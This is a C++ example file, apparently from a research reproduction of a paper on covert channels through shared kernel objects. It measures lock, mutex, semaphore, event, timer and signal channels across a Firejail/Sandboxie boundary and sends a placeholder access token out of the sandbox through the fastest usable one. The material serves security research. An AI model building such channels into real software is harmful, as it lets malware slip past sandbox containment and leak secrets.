@@ -1,0 +1,83 @@
+// Cross-sandbox exfiltration (§V.C.2).
+//
+// The Trojan runs inside a sandbox (Firejail / Sandboxie) whose policy
+// blocks it from writing anywhere the outside can read — but the MESM
+// kernel objects still span the boundary. This example surveys every
+// mechanism in the cross-sandbox scenario, picks the fastest one that
+// clears 1% BER, and exfiltrates an access token through it.
+#include <cstdio>
+#include <vector>
+
+#include "core/runner.h"
+#include "util/rng.h"
+#include "util/table.h"
+
+int main()
+{
+  using namespace mes;
+
+  const std::string token = "AKIA-MES-5EC2ET";
+  const BitVec payload = BitVec::from_text(token);
+
+  const std::vector<Mechanism> mechanisms = {
+      Mechanism::flock,     Mechanism::file_lock_ex, Mechanism::mutex,
+      Mechanism::semaphore, Mechanism::event,        Mechanism::waitable_timer,
+      Mechanism::posix_signal,
+  };
+
+  std::printf("Surveying mechanisms across the sandbox boundary "
+              "(2048-bit probe each):\n\n");
+  TextTable table({"mechanism", "class", "BER(%)", "TR(kb/s)", "status"});
+  Mechanism best = Mechanism::event;
+  double best_tr = 0.0;
+  bool have_best = false;
+  for (const Mechanism m : mechanisms) {
+    ExperimentConfig cfg;
+    cfg.mechanism = m;
+    cfg.scenario = Scenario::cross_sandbox;
+    cfg.timing = paper_timeset(m, Scenario::cross_sandbox);
+    cfg.seed = 0x5b0c;
+    Rng rng{cfg.seed};
+    const ChannelReport rep = run_transmission(cfg, BitVec::random(rng, 2048));
+    if (!rep.ok) {
+      table.add_row({to_string(m), to_string(class_of(m)), "-", "-",
+                     rep.failure_reason});
+      continue;
+    }
+    table.add_row({to_string(m), to_string(class_of(m)),
+                   TextTable::num(rep.ber_percent(), 3),
+                   TextTable::num(rep.throughput_kbps(), 3),
+                   rep.ber < 0.01 ? "usable" : "too noisy"});
+    if (rep.ber < 0.01 && rep.throughput_bps > best_tr) {
+      best = m;
+      best_tr = rep.throughput_bps;
+      have_best = true;
+    }
+  }
+  table.print();
+  if (!have_best) {
+    std::printf("\nno usable channel found\n");
+    return 1;
+  }
+
+  std::printf("\nSelected %s; exfiltrating %zu-bit token...\n",
+              to_string(best), payload.size());
+  ExperimentConfig cfg;
+  cfg.mechanism = best;
+  cfg.scenario = Scenario::cross_sandbox;
+  cfg.timing = paper_timeset(best, Scenario::cross_sandbox);
+  cfg.seed = 0x70c3;
+  const RoundedReport rounded = run_with_retries(cfg, payload);
+  if (!rounded.report.ok || !rounded.report.sync_ok) {
+    std::printf("exfiltration failed\n");
+    return 1;
+  }
+  std::printf("received outside the sandbox: \"%s\"  (BER %.3f%%, %zu "
+              "round%s)\n",
+              rounded.report.ber == 0.0
+                  ? rounded.report.received_payload.to_text().c_str()
+                  : "<bit errors>",
+              rounded.report.ber_percent(), rounded.rounds_attempted,
+              rounded.rounds_attempted == 1 ? "" : "s");
+  return 0;
+}
